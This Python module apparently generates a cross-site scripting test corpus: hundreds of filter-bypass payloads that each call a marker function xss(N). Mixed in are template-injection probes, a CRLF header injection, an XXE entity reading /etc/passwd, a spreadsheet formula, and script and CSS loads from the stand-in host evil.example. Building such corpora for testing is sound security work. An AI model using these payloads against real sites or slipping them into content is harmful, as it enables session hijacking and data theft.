"""Text that becomes a program where a page takes it for one: every one calls `xss(N)`, so that it can be told which.

What they have in common with each other is made here by putting heads, events and disguises together; those that need
their own form stand below. Every element they would make carries `data-xss`, which shows it even if nothing runs.
"""

import itertools
from collections.abc import Iterator

CALL = "xss(N)"
MARK = "data-xss"

EVENTS = {
    "img src=x": ("onerror", "onload", "onclick"),
    "svg": ("onload", "onfocusin"),
    "body": ("onload", "onpageshow", "onhashchange", "onscroll"),
    "video src=x": ("onerror", "oncanplay", "onloadstart"),
    "audio src=x": ("onerror", "onloadstart"),
    "details open": ("ontoggle",),
    "marquee": ("onstart", "onfinish", "onbounce"),
    "input autofocus": ("onfocus", "onblur", "oninput"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "button autofocus": ("onfocus", "onpointerenter"),
    "iframe": ("onload",),
    "object data=x": ("onerror",),
    "embed src=x": ("onload",),
    "style": ("onload",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "script src=x": ("onerror", "onload"),
    "a href=# autofocus tabindex=1": ("onfocus", "onmouseover"),
    "div contenteditable autofocus": ("onfocus", "onpointerover", "onanimationstart"),
    "x tabindex=1 autofocus": ("onfocus", "ontransitionend"),
    "dialog open": ("onclose", "oncancel"),
    "track src=x": ("onerror",),
    "source src=x": ("onerror",),
    "meter": ("onmouseover",),
    "p popover": ("onbeforetoggle",),
}
DISGUISES = (
    "<TAG MARK EVENT=CALL>",
    "<TAG MARK/EVENT='CALL'//",
    '"><TAG MARK EVENT="CALL">',
    "'><TAG MARK EVENT=CALL>",
    "</textarea></title></script><TAG MARK EVENT=CALL>",
    "-->]]><TAG MARK EVENT=CALL>",
)
ATTRIBUTES = (
    '" EVENT="CALL" MARK="',
    "' EVENT='CALL' MARK='",
    "` EVENT=`CALL` MARK=`",
    ' EVENT=CALL MARK="',
    '" autofocus tabindex=1 EVENT=CALL MARK="',
    '\\" EVENT=CALL MARK=\\"',
)
SCHEMES = (
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "java\nscript:CALL",
    "\x01javascript:CALL",
    " javascript:CALL",
    "javascript://%0aCALL",
    "javascript:/*--></title></style>*/CALL",
    "data:text/html,<script>CALL</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    "vbscript:CALL",
    "jav&#x09;ascript:CALL",
    "&#106;avascript:CALL",
    "javascript&colon;CALL",
    "//evil.example/CALL",
    "https://evil.example/CALL",
)
HOLDERS = (
    "<a MARK href='URL'>x</a>",
    "<iframe MARK src='URL'></iframe>",
    "<form MARK action='URL'><button>x</button></form>",
    "<meta MARK http-equiv=refresh content='0;url=URL'>",
    "<base MARK href='URL'>",
    "<svg MARK><a xlink:href='URL'><text y=9>x</text></a></svg>",
    "URL",
)
OTHERS = (
    "<script MARK>CALL</script>",
    "<ScRiPt MARK>CALL</sCrIpT>",
    "<script MARK src=//evil.example/CALL></script>",
    "<script MARK src=data:,CALL></script>",
    "<script MARK type=module>CALL</script>",
    "<script\x0cMARK>CALL</script\n>",
    "<<script MARK>CALL//<</script>",
    "<scr<script>ipt MARK>CALL</scr</script>ipt>",
    "</script><script MARK>CALL</script>",
    "';CALL;'",
    '";CALL;"',
    "\\';CALL;//",
    "${CALL}",
    "`${CALL}`",
    "{{CALL}}",
    "{{ [].__class__.__mro__ }}{% raw %}CALL",
    "{{constructor.constructor('CALL')()}}",
    "{{7*7}}<b MARK>CALL</b>",
    "{% include '/etc/passwd' %}CALL",
    "#{CALL}",
    "<%= CALL %>",
    "<svg MARK><script>CALL</script></svg>",
    "<svg MARK><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg MARK><set attributeName=onload to=CALL>",
    "<svg MARK><use href='data:image/svg+xml,<svg id=x onload=CALL/>#x'>",
    "<svg MARK><foreignObject><body onload=CALL></foreignObject></svg>",
    "<svg MARK><style><img src=x onerror=CALL></style></svg>",
    "<svg MARK><desc><!--</desc><img src=x onerror=CALL>-->",
    "<math MARK><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CALL&gt;'>",
    "<math MARK><annotation-xml encoding=text/html><script>CALL</script></annotation-xml></math>",
    "<math MARK href=javascript:CALL>x</math>",
    "<noscript MARK><p title='</noscript><img src=x onerror=CALL>'>",
    "<template MARK><script>CALL</script></template>",
    "<div MARK><template shadowrootmode=open><script>CALL</script></template></div>",
    "<form MARK><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
    "<xmp MARK><p title='</xmp><img src=x onerror=CALL>'>",
    "<plaintext MARK>CALL",
    "<select MARK><style></select><img src=x onerror=CALL></style>",
    "<table MARK><td background=javascript:CALL>",
    "<style MARK>@import 'https://evil.example/x.css';</style>CALL",
    "<style MARK>*{background:url(https://evil.example/CALL)}</style>",
    "<b MARK style=background:url(https://evil.example/CALL)>x</b>",
    "<link MARK rel=prefetch href=https://evil.example/CALL>",
    "<img MARK srcset='https://evil.example/CALL 1x'>",
    "<object MARK data=javascript:CALL></object>",
    "<iframe MARK srcdoc='<script>parent.CALL</script>'></iframe>",
    "<iframe MARK srcdoc=&lt;script&gt;parent.CALL&lt;/script&gt;></iframe>",
    "<img MARK name=getElementById><img name=cookie src=x onerror=CALL>",
    "<a MARK id=location href=javascript:CALL>x</a>",
    "&lt;img src=x MARK onerror=CALL&gt;",
    "&#60;img src=x MARK onerror=CALL&#62;",
    "%3Cimg%20src=x%20MARK%20onerror=CALL%3E",
    "\\u003cimg src=x MARK onerror=CALL\\u003e",
    "\\x3cimg src=x MARK onerror=CALL\\x3e",
    "＜img src=x MARK onerror=CALL＞",
    "‹img src=x MARK onerror=CALL›",
    "\u02c2img src=x MARK onerror=CALL\u02c3",
    "<\u200bimg src=x MARK onerror=CALL>",
    "<img\u3000src=x MARK onerror=CALL>",
    "<img\u2028src=x MARK onerror=CALL>",
    "\u202e<img src=x MARK onerror=CALL>\u2066",
    "\ufeff<img src=x MARK onerror=CALL>",
    "<i\u0307mg src=x MARK onerror=CALL>",
    "+ADw-img src+AD0-x MARK onerror+AD0-CALL+AD4-",
    "<img src=x MARK onerror=\u0061lert`N`;CALL>",
    "<img src=x MARK onerror=eval(atob('eHNz'))(N)>CALL",
    "<img src=x MARK onerror=setTimeout('CALL')>",
    "<img src=x MARK onerror=top['xss'](N)>CALL",
    "<img src=`x`MARK onerror=CALL>",
    "<img/src='x'/MARK/onerror=CALL",
    "<IMG SRC=x MARK ONERROR=CALL>",
    "<img src=x MARK onerror\x0b=\x0bCALL>",
    "<img src=x MARK onerror &#61; CALL>",
    "<!--><img src=x MARK onerror=CALL>-->",
    "<![CDATA[<img src=x MARK onerror=CALL>]]>",
    "<?xml version='1.0'?><img src=x MARK onerror=CALL>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x MARK>&y;CALL</x>",
    "[x](javascript:CALL)",
    "![x](x' onerror='CALL)",
    "http://x.example/\"onmouseover=CALL MARK=\"",
    "=HYPERLINK(\"javascript:CALL\")",
    "x\r\nContent-Type: text/html\r\n\r\n<script MARK>CALL</script>",
    "alert(1);CALL//<svg/MARK/onload=alert(1)>",
    "<x MARK onclick=CALL>" * 3,
    "<" * 40 + "img src=x MARK onerror=CALL" + ">" * 40,
)


def payloads() -> list[str]:
    """All of them, each with the number of its place for N."""
    return [form.replace("CALL", CALL).replace("MARK", MARK).replace("N)", f"{n})") for n, form in enumerate(forms())]


def forms() -> Iterator[str]:
    """All of them as forms, in the order of this module."""
    pairs = [(tag, event) for tag, events in EVENTS.items() for event in events]
    for (tag, event), disguise in itertools.product(pairs, DISGUISES):
        yield disguise.replace("TAG", tag).replace("EVENT", event)
    for form, event in itertools.product(ATTRIBUTES, ("onfocus", "onmouseover", "onclick")):
        yield form.replace("EVENT", event)
    for scheme, holder in itertools.product(SCHEMES, HOLDERS):
        yield holder.replace("URL", scheme)
    yield from OTHERS
